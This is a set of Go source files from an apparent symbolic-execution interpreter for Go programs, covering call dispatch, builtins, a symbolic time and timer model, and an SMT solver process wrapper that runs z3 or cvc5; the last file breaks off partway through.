		return nil, "unsupported pipeline " + p.String()
	}
	switch a := p.Cmds[0].Args[0].(type) {
	case *parse.DotNode:
		return dot, ""
	case *parse.FieldNode:
		v := dot
		for _, id := range a.Ident {
			nv, e := in.tmplField(v, id)
			if e != "" {
				return nil, e
			}
			v = nv
		}
		return v, ""
	case *parse.StringNode:
		return strConst(a.Text), ""
	}
	return nil, "unsupported pipeline argument " + p.String()
}

func (in *Interp) tmplField(v Value, name string) (Value, string) {
	var t types.Type
	if iv, ok := v.(*IfaceV); ok {
		if iv.T == nil {
			return nil, "field of nil"
		}
		t, v = iv.T, iv.V
	}
	if p, ok := v.(*PtrV); ok && t != nil {
		if pt, isP := t.Underlying().(*types.Pointer); isP {
			t = pt.Elem()
			v = in.load(p.C)
		}
	}
	switch x := v.(type) {
	case *StructV:
		st, ok := t.Underlying().(*types.Struct)
		if !ok {
			return nil, "struct value without struct type"
		}
		for i := 0; i < st.NumFields(); i++ {
			if st.Field(i).Name() == name {
				fv := x.F[i]
				if _, isI := st.Field(i).Type().Underlying().(*types.Interface); !isI {
					return &IfaceV{T: st.Field(i).Type(), V: fv}, ""
				}
				return fv, ""
			}
		}
		return nil, "no field " + name
	case *MapV:
		mt, _ := t.Underlying().(*types.Map)
		val, ok := in.mapLookup(x.M, strConst(name))
		if !ok {
			return strConst("<no value>"), ""
		}
		if mt != nil {
			return &IfaceV{T: mt.Elem(), V: val}, ""
		}
		return val, ""
	}
	return nil, "field " + name + " of " + describe(v)
}

func (in *Interp) tmplString(g *Goroutine, v Value) (*StrV, bool) {
	switch x := v.(type) {
	case *StrV:
		return x, true
	case *IfaceV:
		if x.T == nil {
			return strConst("<no value>"), true
		}
		res := fmtResult{}
		return &StrV{B: in.formatArg(g, "%v", 'v', x, &res)}, true
	}
	return nil, false
}
