package main

// call.go - calls, builtins, method dispatch, deferred calls, goroutine start.

import (
	"fmt"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// intrinsic result protocol
type intrinsicFn func(in *Interp, g *Goroutine, c *callCtx) (Value, int)

type callCtx struct {
	fn     *ssa.Function // may be nil for builtins
	name   string
	args   []Value
	instr  ssa.Instruction // call site (may be nil)
	common *ssa.CallCommon
	fr     *Frame
}

const (
	irDone    = iota // value returned
	irYield          // sync point: retry later
	irBlocked        // blocked: retry when ready
	irPushed         // a frame has been pushed; result arrives via frame return
	irPanic          // Go panic raised
)

// resolveCallee determines the function value and argument list for a call.
func (in *Interp) resolveCallee(g *Goroutine, fr *Frame, cc *ssa.CallCommon, pos string) (fv *FuncV, args []Value, ok bool) {
	if cc.IsInvoke() {
		recv := in.get(fr, cc.Value)
		iv, isI := recv.(*IfaceV)
		if !isI {
			panic(engineErr(fmt.Sprintf("invoke on non-interface %s", describe(recv))))
		}
		if iv.T == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "nil pointer dereference (method call on nil interface: " + cc.Method.Name() + ")", Pos: pos})
			return nil, nil, false
		}
		fn := in.lookupMethod(iv.T, cc.Method)
		if fn == nil {
			panic(engineErr(fmt.Sprintf("no method %s on dynamic type %s", cc.Method.Name(), iv.T)))
		}
		args = append(args, iv.V)
		for _, a := range cc.Args {
			args = append(args, in.get(fr, a))
		}
		return &FuncV{Fn: fn}, args, true
	}
	v := in.get(fr, cc.Value)
	f, isF := v.(*FuncV)
	if !isF {
		panic(engineErr(fmt.Sprintf("call of non-function %s", describe(v))))
	}
	if isNilFunc(f) {
		in.goPanic(g, &PanicV{Kind: "nil", Msg: "call of nil function", Pos: pos})
		return nil, nil, false
	}
	for _, a := range cc.Args {
		args = append(args, in.get(fr, a))
	}
	return f, args, true
}

func (in *Interp) lookupMethod(t types.Type, m *types.Func) *ssa.Function {
	ms := in.w.prog.MethodSets.MethodSet(t)
	sel := ms.Lookup(m.Pkg(), m.Name())
	if sel == nil {
		return nil
	}
	return in.w.prog.MethodValue(sel)
}

func (in *Interp) doCall(g *Goroutine, fr *Frame, instr ssa.Instruction, cc *ssa.CallCommon, dest ssa.Value) int {
	fv, args, ok := in.resolveCallee(g, fr, cc, in.posOf(instr))
	if !ok {
		return stOK
	}
	v, r := in.invoke(g, fv, args, &callCtx{instr: instr, common: cc, fr: fr}, dest)
	switch r {
	case irDone:
		if dest != nil {
			fr.env[dest] = v
		}
		fr.pc++
		return stOK
	case irYield:
		return stYield
	case irBlocked:
		return stBlocked
	case irPushed, irPanic:
		return stOK
	}
	return stOK
}

// invoke calls fv with args. For SSA functions a frame is pushed (irPushed).
func (in *Interp) invoke(g *Goroutine, fv *FuncV, args []Value, c *callCtx, dest ssa.Value) (Value, int) {
	if fv.Native != nil {
		if in.mergeDepth > 0 {
			panic(mergeFail{"engine-native function (side effects outside the write log) in merged region"})
		}
		return fv.Native(in, args), irDone
	}
	if fv.Builtin != "" {
		c.name = fv.Builtin
		c.args = args
		return in.callBuiltin(g, c)
	}
	fn := fv.Fn
	name := fn.String()
	if fn.Origin() != nil {
		name = fn.Origin().String()
	}
	c.fn = fn
	c.name = name
	c.args = append(append([]Value(nil), fv.Free...), args...)
	if h, ok := in.w.stubs[name]; ok {
		// harness-provided replacement
		in.stubCalls[name]++
		nf := h
		fr := in.pushFrame(g, nf, args, nil)
		fr.call = dest
		return nil, irPushed
	}
	if intr, ok := intrinsics[name]; ok {
		c.args = args
		if in.mergeDepth > 0 && !pureIntrinsic(name) {
			panic(mergeFail{"impure intrinsic in merged region: " + name})
		}
		return intr(in, g, c)
	}
	if fn.Blocks == nil {
		if strings.HasPrefix(fn.Name(), "nondet") || strings.HasPrefix(fn.Name(), "verif") {
			if in.mergeDepth > 0 {
				panic(mergeFail{"harness intrinsic in merged region"})
			}
			c.args = args
			return in.harnessIntrinsic(g, fn.Name(), c)
		}
		in.inconclusive("un-modelled callee without body: " + name)
	}
	if in.w.denied(name) {
		in.inconclusive("un-modelled foreign callee: " + name)
	}
	fr := in.pushFrame(g, fn, args, fv.Free)
	fr.call = dest
	return nil, irPushed
}

// callSync runs fn(args) to completion on goroutine g and returns its result.
func (in *Interp) callSync(g *Goroutine, fv *FuncV, args []Value) Value {
	var result Value
	done := false
	in.inSync++
	defer func() { in.inSync-- }()
	v, r := in.invoke(g, fv, args, &callCtx{}, nil)
	switch r {
	case irDone:
		return v
	case irPushed:
	case irPanic:
		panic(engineErr("panic in synchronous call"))
	default:
		panic(engineErr("synchronous call would block: " + describe(fv)))
	}
	fr := g.stack[len(g.stack)-1]
	fr.nativeBarrier = true
	fr.onRet = func(v Value) { result = v; done = true }
	base := len(g.stack) - 1
	for !done {
		if len(g.stack) <= base {
			panic(engineErr("callSync frame vanished"))
		}
		st := in.step(g)
		if st != stOK {
			panic(engineErr("synchronous call blocked or yielded in " + fr.fn.String()))
		}
	}
	return result
}

func (in *Interp) callMethodSync(g *Goroutine, recv *IfaceV, name string, args ...Value) (Value, bool) {
	if recv.T == nil {
		return nil, false
	}
	ms := in.w.prog.MethodSets.MethodSet(recv.T)
	for i := 0; i < ms.Len(); i++ {
		sel := ms.At(i)
		if sel.Obj().Name() == name {
			fn := in.w.prog.MethodValue(sel)
			if fn == nil {
				return nil, false
			}
			return in.callSync(g, &FuncV{Fn: fn}, append([]Value{recv.V}, args...)), true
		}
	}
	return nil, false
}

func (in *Interp) prepareDeferred(fr *Frame, cc *ssa.CallCommon) deferred {
	d := deferred{}
	if cc.IsInvoke() {
		d.fn = in.get(fr, cc.Value)
		d.method = cc.Method
	} else {
		d.fn = in.get(fr, cc.Value)
	}
	for _, a := range cc.Args {
		d.args = append(d.args, in.get(fr, a))
	}
	return d
}

func (in *Interp) resolveDeferred(g *Goroutine, d deferred) (*FuncV, []Value, bool) {
	if d.method != nil {
		iv := d.fn.(*IfaceV)
		if iv.T == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "deferred/go method call on nil interface"})
			return nil, nil, false
		}
		fn := in.lookupMethod(iv.T, d.method)
		return &FuncV{Fn: fn}, append([]Value{iv.V}, d.args...), true
	}
	f := d.fn.(*FuncV)
	if isNilFunc(f) {
		in.goPanic(g, &PanicV{Kind: "nil", Msg: "deferred/go call of nil function"})
		return nil, nil, false
	}
	return f, d.args, true
}

// startDeferredCall runs d in the context of the current top frame's defer loop.
func (in *Interp) startDeferredCall(g *Goroutine, d deferred) {
	fv, args, ok := in.resolveDeferred(g, d)
	if !ok {
		return
	}
	depth := len(g.stack)
	v, r := in.invoke(g, fv, args, &callCtx{}, nil)
	_ = v
	switch r {
	case irPushed:
		if len(g.stack) > depth {
			g.stack[len(g.stack)-1].isDefer = true
		}
	case irDone, irPanic:
	case irYield, irBlocked:
		// deferred sync op (e.g. defer mu.Unlock()): perform it without yielding
		g.atSync = true
		in.inSync++
		v, r = in.invoke(g, fv, args, &callCtx{}, nil)
		in.inSync--
		g.atSync = false
		if r != irDone && r != irPushed {
			panic(engineErr("deferred call blocks: " + describe(fv)))
		}
		if r == irPushed && len(g.stack) > depth {
			g.stack[len(g.stack)-1].isDefer = true
		}
	}
}

// startCallIn begins d as the first frame of a new goroutine.
func (in *Interp) startCallIn(ng *Goroutine, d deferred) {
	fv, args, ok := in.resolveDeferred(ng, d)
	if !ok {
		return
	}
	if fv.Fn != nil && fv.Fn.Blocks != nil {
		if _, isStub := in.w.stubs[fv.Fn.String()]; !isStub {
			if _, isIntr := intrinsics[fv.Fn.String()]; !isIntr {
				in.pushFrame(ng, fv.Fn, args, fv.Free)
				return
			}
		}
	}
	// native/intrinsic target: wrap in a tiny native frame by invoking directly when scheduled.
	v, r := in.invoke(ng, fv, args, &callCtx{}, nil)
	_ = v
	if r == irYield || r == irBlocked {
		panic(engineErr("go statement on blocking intrinsic " + describe(fv)))
	}
	if r == irDone && len(ng.stack) == 0 {
		ng.status = gDone
	}
}

// ---------- builtins ----------

func (in *Interp) callBuiltin(g *Goroutine, c *callCtx) (Value, int) {
	name := strings.TrimPrefix(c.name, "builtin:")
	args := c.args
	if in.mergeDepth > 0 {
		switch name {
		case "close", "delete", "clear", "recover", "panic":
			panic(mergeFail{"builtin " + name + " in merged region"})
		}
	}
	switch name {
	case "len":
		switch x := args[0].(type) {
		case *StrV:
			return Const(64, uint64(len(x.B))), irDone
		case *SliceV:
			return Const(64, uint64(x.Len)), irDone
		case *MapV:
			if x.M == nil {
				return Const(64, 0), irDone
			}
			return Const(64, uint64(len(x.M.E))), irDone
		case *ChanV:
			if x.C == nil {
				return Const(64, 0), irDone
			}
			return Const(64, uint64(len(x.C.buf))), irDone
		case *ArrayV:
			return Const(64, uint64(len(x.E))), irDone
		case *PtrV:
			return Const(64, uint64(len(x.C.Kids))), irDone
		}
	case "cap":
		switch x := args[0].(type) {
		case *SliceV:
			if x.Frozen {
				panic(engineErr("cap of merged slice view"))
			}
			return Const(64, uint64(x.Cap())), irDone
		case *ChanV:
			if x.C == nil {
				return Const(64, 0), irDone
			}
			return Const(64, uint64(x.C.cap)), irDone
		case *ArrayV:
			return Const(64, uint64(len(x.E))), irDone
		case *PtrV:
			return Const(64, uint64(len(x.C.Kids))), irDone
		}
	case "append":
		s := args[0].(*SliceV)
		var et types.Type
		if c.common != nil {
			et = c.common.Args[0].Type().Underlying().(*types.Slice).Elem()
		}
		switch y := args[1].(type) {
		case *SliceV:
			if y.Len == 0 {
				return s, irDone
			}
			vals := make([]Value, y.Len)
			for i := 0; i < y.Len; i++ {
				vals[i] = in.load(y.Cells[i])
			}
			return in.appendVals(et, s, vals), irDone
		case *StrV:
			vals := make([]Value, len(y.B))
			for i, b := range y.B {
				vals[i] = b
			}
			return in.appendVals(et, s, vals), irDone
		}
	case "copy":
		d := args[0].(*SliceV)
		n := d.Len
		switch y := args[1].(type) {
		case *SliceV:
			if y.Len < n {
				n = y.Len
			}
			vals := make([]Value, n)
			for i := 0; i < n; i++ {
				vals[i] = in.load(y.Cells[i])
			}
			for i := 0; i < n; i++ {
				in.store(d.Cells[i], vals[i])
			}
		case *StrV:
			if len(y.B) < n {
				n = len(y.B)
			}
			for i := 0; i < n; i++ {
				in.store(d.Cells[i], y.B[i])
			}
		}
		return Const(64, uint64(n)), irDone
	case "delete":
		in.mapDelete(args[0].(*MapV).M, args[1])
		return nil, irDone
	case "close":
		return in.chanClose(g, args[0].(*ChanV), c)
	case "panic":
		in.goPanic(g, &PanicV{V: args[0], Kind: "explicit", Msg: in.panicMsg(args[0])})
		return nil, irPanic
	case "recover":
		if g.panicking != nil {
			p := g.panicking
			g.panicking = nil
			g.recovered = true
			if p.V != nil {
				return p.V, irDone
			}
			return &IfaceV{T: types.Typ[types.String], V: strConst(p.Msg)}, irDone
		}
		return &IfaceV{}, irDone
	case "print", "println":
		return nil, irDone
	case "min", "max":
		t := c.common.Args[0].Type()
		if isString(t) {
			r := args[0].(*StrV)
			for _, a := range args[1:] {
				s := a.(*StrV)
				var lt *Term
				if name == "min" {
					lt = strLess(s, r)
				} else {
					lt = strLess(r, s)
				}
				if in.branch(lt) {
					r = s
				}
			}
			return r, irDone
		}
		_, signed, _ := intWidth(t)
		r := args[0].(*Term)
		for _, a := range args[1:] {
			y := a.(*Term)
			op := "bvult"
			if signed {
				op = "bvslt"
			}
			if name == "min" {
				r = Ite(Cmp(op, y, r), y, r)
			} else {
				r = Ite(Cmp(op, r, y), y, r)
			}
		}
		return r, irDone
	case "clear":
		switch x := args[0].(type) {
		case *MapV:
			if x.M != nil {
				x.M.E = nil
			}
		case *SliceV:
			for i := 0; i < x.Len; i++ {
				in.store(x.Cells[i], zeroValue(x.Cells[i].T))
			}
		}
		return nil, irDone
	case "ssa:wrapnilchk":
		p := args[0].(*PtrV)
		if p.C == nil {
			in.goPanic(g, &PanicV{Kind: "nil", Msg: "value method called using nil pointer"})
			return nil, irPanic
		}
		return p, irDone
	case "SliceData":
		s := args[0].(*SliceV)
		if s.Cap() > 0 {
			return &PtrV{C: s.Cells[0], Sl: s}, irDone
		}
		return &PtrV{Sl: s}, irDone
	case "StringData":
		s := args[0].(*StrV)
		sl := in.makeSlice(types.Typ[types.Uint8], len(s.B), len(s.B))
		for i, b := range s.B {
			sl.Cells[i].V = b
		}
		if len(s.B) > 0 {
			return &PtrV{C: sl.Cells[0], Sl: sl}, irDone
		}
		return &PtrV{Sl: sl}, irDone
	case "String":
		p := args[0].(*PtrV)
		n := in.concreteInt(args[1].(*Term), "unsafe.String len")
		if p.Sl == nil {
			if n == 0 {
				return &StrV{}, irDone
			}
			panic(engineErr("unsafe.String on untracked pointer"))
		}
		b := make([]*Term, n)
		for i := 0; i < n; i++ {
			b[i] = in.loadLeaf(p.Sl.Cells[i]).(*Term)
		}
		return &StrV{B: b}, irDone
	case "Slice":
		p := args[0].(*PtrV)
		n := in.concreteInt(args[1].(*Term), "unsafe.Slice len")
		if p.Sl == nil {
			if n == 0 {
				return &SliceV{Nil: true}, irDone
			}
			panic(engineErr("unsafe.Slice on untracked pointer"))
		}
		return &SliceV{Cells: p.Sl.Cells[:n:n], Len: n}, irDone
	}
	panic(engineErr(fmt.Sprintf("unsupported builtin %s(%s)", name, describe(args[0]))))
}

func pureIntrinsic(name string) bool {
	return strings.HasPrefix(name, "internal/bytealg.") || strings.HasPrefix(name, "strings.") || strings.HasPrefix(name, "bytes.") ||
		strings.HasPrefix(name, "internal/abi.") || name == "runtime.KeepAlive" || name == "(*strings.Builder).copyCheck" || name == "errors.Is"
}
