package main

// timemodel.go - symbolic clock: time.Time values carry a 64-bit nanosecond term; timers are
// objects the harness fires as environment steps.

import (
	"fmt"
	"go/types"
)

func (in *Interp) timeType() types.Type { return lookupType(in.w.prog, "time", "Time") }

func (in *Interp) now() *Term {
	if in.nowT == nil {
		in.nowT = Const(64, 1_000_000_000)
	}
	return in.nowT
}

// mkTime builds a time.Time{wall, ext, loc}: wall=1 marks "not the zero time", ext = nanoseconds.
func (in *Interp) mkTime(ns *Term) Value {
	z := zeroValue(in.timeType()).(*StructV)
	z.F[0] = Const(64, 1)
	z.F[1] = ns
	return z
}

func timeNS(v Value) *Term { return v.(*StructV).F[1].(*Term) }

func timeIsZero(v Value) *Term {
	s := v.(*StructV)
	return And(Eq(s.F[0].(*Term), Const(64, 0)), Eq(s.F[1].(*Term), Const(64, 0)))
}

func (in *Interp) timerOf(v Value) *TimerObj {
	p := v.(*PtrV)
	if p.C == nil {
		panic(engineErr("nil *time.Timer"))
	}
	k := fmt.Sprintf("timer:%p", p.C)
	if t, ok := in.natives[k]; ok {
		return t.(*TimerObj)
	}
	panic(engineErr("unknown timer object"))
}

func init() {
	reg("time.Now", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(in.mkTime(in.now())) })
	reg("time.Since", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(BinBV("bvsub", in.now(), timeNS(c.args[0])))
	})
	reg("time.Until", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(BinBV("bvsub", timeNS(c.args[0]), in.now()))
	})
	reg("(time.Time).Add", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(in.mkTime(BinBV("bvadd", timeNS(c.args[0]), c.args[1].(*Term))))
	})
	reg("(time.Time).AddDate", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		y := in.concreteInt(c.args[1].(*Term), "AddDate years")
		m := in.concreteInt(c.args[2].(*Term), "AddDate months")
		d := in.concreteInt(c.args[3].(*Term), "AddDate days")
		days := int64(y)*365 + int64(m)*30 + int64(d) // calendar arithmetic approximated: only the sign and rough size matter here
		return done(in.mkTime(BinBV("bvadd", timeNS(c.args[0]), Const(64, uint64(days*86400*1_000_000_000)))))
	})
	reg("(time.Time).Sub", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(BinBV("bvsub", timeNS(c.args[0]), timeNS(c.args[1])))
	})
	reg("(time.Time).IsZero", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) { return done(timeIsZero(c.args[0])) })
	reg("(time.Time).After", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(Cmp("bvsgt", timeNS(c.args[0]), timeNS(c.args[1])))
	})
	reg("(time.Time).Before", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		return done(Cmp("bvslt", timeNS(c.args[0]), timeNS(c.args[1])))
	})
	reg("(time.Duration).String", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		d := c.args[0].(*Term)
		if !d.IsConst() {
			in.inconclusive("Duration.String of symbolic duration")
		}
		ns := sext(d.Val, 64)
		if ns%1_000_000_000 == 0 {
			return done(strConst(fmt.Sprintf("%ds", ns/1_000_000_000)))
		}
		return done(strConst(fmt.Sprintf("%dns", ns)))
	})
	reg("time.AfterFunc", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		tt := lookupType(in.w.prog, "time", "Timer")
		p := &PtrV{C: newCell(tt, nil)}
		t := &TimerObj{armed: true, deadline: BinBV("bvadd", in.now(), c.args[0].(*Term)), fn: c.args[1].(*FuncV)}
		in.natives[fmt.Sprintf("timer:%p", p.C)] = t
		in.timers = append(in.timers, t)
		return done(p)
	})
	reg("(*time.Timer).Reset", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		t := in.timerOf(c.args[0])
		was := t.armed
		t.armed = true
		t.deadline = BinBV("bvadd", in.now(), c.args[1].(*Term))
		t.resets++
		return done(BoolC(was))
	})
	reg("(*time.Timer).Stop", func(in *Interp, g *Goroutine, c *callCtx) (Value, int) {
		t := in.timerOf(c.args[0])
		was := t.armed
		t.armed = false
		return done(BoolC(was))
	})
}

// harness API for the clock and timers
func (in *Interp) harnessTime(g *Goroutine, name string, c *callCtx) (Value, int, bool) {
	a := c.args
	switch name {
	case "verifTime":
		return in.mkTime(a[0].(*Term)), irDone, true
	case "verifClock":
		return in.now(), irDone, true
	case "verifAdvanceClock":
		in.nowT = BinBV("bvadd", in.now(), a[0].(*Term))
		return nil, irDone, true
	case "verifTimerCount":
		return i64(len(in.timers)), irDone, true
	case "verifTimerArmed":
		return BoolC(in.timers[in.concreteInt(a[0].(*Term), name)].armed), irDone, true
	case "verifTimerDeadline":
		return in.timers[in.concreteInt(a[0].(*Term), name)].deadline, irDone, true
	case "verifTimerResets":
		return i64(in.timers[in.concreteInt(a[0].(*Term), name)].resets), irDone, true
	case "verifExpireTimer":
		t := in.timers[in.concreteInt(a[0].(*Term), name)]
		if !t.armed {
			panic(engineErr("expiring a timer that is not armed"))
		}
		t.armed = false
		t.pending++
		return nil, irDone, true
	case "verifTimerPending":
		return i64(in.timers[in.concreteInt(a[0].(*Term), name)].pending), irDone, true
	case "verifRunTimer":
		t := in.timers[in.concreteInt(a[0].(*Term), name)]
		if t.pending == 0 {
			panic(engineErr("no pending timer callback"))
		}
		t.pending--
		t.fired++
		fr := in.pushFrame(g, t.fn.Fn, nil, t.fn.Free)
		caller := c.fr
		fr.onRet = func(v Value) {
			if caller != nil {
				caller.pc++
			}
		}
		return nil, irPushed, true
	case "verifFireTimer":
		t := in.timers[in.concreteInt(a[0].(*Term), name)]
		if !t.armed {
			panic(engineErr("firing a timer that is not armed"))
		}
		t.armed = false
		t.fired++
		fr := in.pushFrame(g, t.fn.Fn, nil, t.fn.Free)
		caller := c.fr
		fr.onRet = func(v Value) {
			if caller != nil {
				caller.pc++
			}
		}
		return nil, irPushed, true
	}
	return nil, 0, false
}
