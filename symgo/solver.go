package main

// solver.go - persistent SMT solver process (z3 -in / cvc5 --incremental).

import (
	"bufio"
	"fmt"
	"io"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"time"
)

type Solver struct {
	kind    string
	cmd     *exec.Cmd
	in      io.WriteCloser
	out     *bufio.Reader
	em      *Emitter
	depth   int
	Queries int
	Sat     int
	Unsat   int
	Unknown int
	Errors  int
	Time    time.Duration
	timeout int // ms
	log     io.Writer
	dead    bool

	lastSat    bool
	pendingPop bool
	LastError  string

	// portfolio: everything asserted since Reset is kept as text; a query the primary solver
	// answers "unknown" is put to a second solver of another kind before it is given up
	ctx        strings.Builder
	fb         *Solver
	noFallback bool
	fromFb     bool
	priUnknown int
	Rescued    int
	Respawns   int
	qAtSwap    int
}

func fallbackKind(kind string) string {
	if strings.HasPrefix(kind, "cvc5") {
		return "z3"
	}
	return "cvc5"
}

func solverArgs(kind string, timeoutMs int) (string, []string) {
	switch kind {
	case "z3-new":
		return "z3-new", []string{"-in", fmt.Sprintf("-t:%d", timeoutMs)}
	case "cvc5":
		return "cvc5", []string{"--incremental", "--lang=smt2", "--produce-models", fmt.Sprintf("--tlimit-per=%d", timeoutMs)}
	case "cvc5-int":
		return "cvc5", []string{"--incremental", "--lang=smt2", "--produce-models", "--solve-bv-as-int=sum", fmt.Sprintf("--tlimit-per=%d", timeoutMs)}
	default:
		return "z3", []string{"-in", fmt.Sprintf("-t:%d", timeoutMs)}
	}
}

func NewSolver(kind string, timeoutMs int) (*Solver, error) {
	bin, args := solverArgs(kind, timeoutMs)
	cmd := exec.Command(bin, args...)
	in, err := cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	cmd.Stderr = cmd.Stdout
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	s := &Solver{kind: kind, cmd: cmd, in: in, out: bufio.NewReaderSize(out, 1<<20), timeout: timeoutMs}
	if strings.HasPrefix(kind, "cvc5") {
		s.send("(set-logic ALL)\n")
	}
	s.send("(set-option :produce-models true)\n")
	s.em = NewEmitter()
	return s, nil
}

func (s *Solver) send(txt string) {
	if s.log != nil {
		io.WriteString(s.log, txt)
	}
	if _, err := io.WriteString(s.in, txt); err != nil {
		s.dead = true
	}
}

func (s *Solver) Close() {
	if s.fb != nil {
		s.fb.Close()
	}
	s.send("(exit)\n")
	s.in.Close()
	done := make(chan struct{})
	go func() { s.cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		s.cmd.Process.Kill()
	}
}

// Reset starts a fresh context (new path).
func (s *Solver) Reset() {
	s.Done()
	for s.depth > 0 {
		s.send("(pop)\n")
		s.depth--
	}
	s.send("(push)\n")
	s.depth = 1
	s.em = NewEmitter()
	s.ctx.Reset()
}

func (s *Solver) Assert(t *Term) {
	s.Done()
	if t.IsTrue() {
		return
	}
	r := s.em.Ref(t)
	s.sendCtx(s.em.Flush())
	s.sendCtx("(assert " + r + ")\n")
}

func (s *Solver) sendCtx(txt string) {
	s.ctx.WriteString(txt)
	s.send(txt)
}

func (s *Solver) readLine() string {
	line, err := s.out.ReadString('\n')
	if err != nil {
		s.dead = true
		return "(error \"solver died\")"
	}
	return strings.TrimSpace(line)
}

// Check asks whether pc ∧ extra is satisfiable. Result: "sat","unsat","unknown".
func (s *Solver) Check(extra *Term) string {
	t0 := time.Now()
	defer func() { s.Time += time.Since(t0) }()
	s.Queries++
	if s.dead && (s.noFallback || s.Respawns > 200 || !s.respawn(s.kind)) {
		s.Errors++
		return "unknown"
	}
	if extra != nil && extra.IsFalse() {
		s.Unsat++
		return "unsat"
	}
	s.Done()
	ref := ""
	if extra != nil && !extra.IsTrue() {
		// definitions are emitted before the push so they survive the pop
		ref = s.em.Ref(extra)
		s.sendCtx(s.em.Flush())
	}
	s.send("(push)\n")
	if ref != "" {
		s.send("(assert " + ref + ")\n")
	}
	s.send("(check-sat)\n")
	res := s.timedAnswer()
	s.fromFb = false
	if res == "unknown" && !s.noFallback {
		s.send("(pop)\n")
		s.priUnknown++
		if r2 := s.askFallback(ref); r2 != "unknown" {
			s.Rescued++
			res = r2
			s.lastSat = res == "sat"
			s.fromFb = s.lastSat
			if res == "sat" {
				s.Sat++
			} else {
				s.Unsat++
			}
			if s.priUnknown >= 3 && s.priUnknown*10 >= s.Queries-s.qAtSwap {
				// this kind of solver keeps failing on this job's queries: swap roles
				s.respawn(fallbackKind(s.kind))
			}
			return res
		}
		s.lastSat = false
		s.Unknown++
		return res
	}
	s.lastSat = res == "sat"
	if !s.lastSat {
		s.send("(pop)\n")
	} else {
		s.pendingPop = true
	}
	switch res {
	case "sat":
		s.Sat++
	case "unsat":
		s.Unsat++
	default:
		s.Unknown++
	}
	return res
}

// timedAnswer reads the check-sat answer under a wall-clock watchdog: a solver that does not
// honour its own per-query limit is killed (the answer is then "unknown").
func (s *Solver) timedAnswer() string {
	p := s.cmd.Process
	wd := time.AfterFunc(time.Duration(s.timeout)*time.Millisecond+5*time.Second, func() { p.Kill() })
	res := s.readAnswer()
	wd.Stop()
	return res
}

func (s *Solver) readAnswer() string {
	for {
		l := s.readLine()
		if l == "" {
			if s.dead {
				s.Errors++
				return "unknown"
			}
			continue
		}
		switch {
		case l == "sat" || l == "unsat":
			return l
		case l == "unknown" || l == "timeout":
			return "unknown"
		case strings.HasPrefix(l, "(error"):
			s.Errors++
			s.LastError = l
			// z3 continues after an error: still read the check-sat answer
			if s.dead {
				return "unknown"
			}
			// the answer following an error is not trustworthy
			rest := s.readAnswerRaw()
			_ = rest
			return "unknown"
		case strings.Contains(l, "interrupted") || strings.Contains(l, "resource"):
			return "unknown"
		default:
			// unexpected output, keep reading
		}
	}
}

// askFallback puts the current context plus the extra assertion to the second solver.
func (s *Solver) askFallback(ref string) string {
	if s.fb == nil || s.fb.dead {
		fb, err := NewSolver(fallbackKind(s.kind), s.timeout)
		if err != nil {
			return "unknown"
		}
		fb.noFallback = true
		s.fb = fb
	}
	fb := s.fb
	fb.Done()
	fb.send("(push)\n")
	fb.send(s.ctx.String())
	if ref != "" {
		fb.send("(assert " + ref + ")\n")
	}
	fb.send("(check-sat)\n")
	t0 := time.Now()
	res := fb.timedAnswer()
	fb.Time += time.Since(t0)
	fb.Queries++
	fb.lastSat = res == "sat"
	fb.em = s.em
	if res == "sat" {
		fb.pendingPop = true
	} else {
		fb.send("(pop)\n")
	}
	return res
}

// respawn replaces the primary process (dead, or one that keeps timing out on this job's
// queries) by a fresh one of the given kind and replays the current context into it.
func (s *Solver) respawn(kind string) bool {
	bin, args := solverArgs(kind, s.timeout)
	cmd := exec.Command(bin, args...)
	in, err := cmd.StdinPipe()
	if err != nil {
		return false
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		return false
	}
	cmd.Stderr = cmd.Stdout
	if err := cmd.Start(); err != nil {
		return false
	}
	s.in.Close()
	s.cmd.Process.Kill()
	go s.cmd.Wait()
	if kind != s.kind && s.fb != nil {
		s.fb.Close()
		s.fb = nil
	}
	if kind != s.kind {
		s.qAtSwap, s.priUnknown = s.Queries, 0
	}
	s.kind = kind
	s.cmd, s.in, s.out = cmd, in, bufio.NewReaderSize(out, 1<<20)
	s.dead = false
	s.Respawns++
	if strings.HasPrefix(s.kind, "cvc5") {
		s.send("(set-logic ALL)\n")
	}
	s.send("(set-option :produce-models true)\n")
	s.send("(push)\n")
	s.depth = 1
	s.pendingPop = false
	s.send(s.ctx.String())
	return !s.dead
}

func (s *Solver) readAnswerRaw() string {
	for i := 0; i < 1000; i++ {
		l := s.readLine()
		if l == "sat" || l == "unsat" || l == "unknown" || l == "timeout" || s.dead {
			return l
		}
	}
	return ""
}

var valRe = regexp.MustCompile(`\(\s*([^\s()]+)\s+(#x[0-9a-fA-F]+|#b[01]+|true|false|\(_ bv(\d+) \d+\))\s*\)`)

// Model returns values for the named variables after a sat Check; must be followed by Done().
func (s *Solver) Model(names []string) map[string]uint64 {
	m := map[string]uint64{}
	if !s.lastSat || len(names) == 0 {
		return m
	}
	if s.fromFb {
		return s.fb.Model(names)
	}
	// only ask for declared vars
	var ask []string
	for _, n := range names {
		if _, ok := s.em.vars[n]; ok {
			ask = append(ask, n)
		}
	}
	for i := 0; i < len(ask); i += 200 {
		j := i + 200
		if j > len(ask) {
			j = len(ask)
		}
		s.send("(get-value (" + strings.Join(ask[i:j], " ") + "))\n")
		// read balanced s-expression
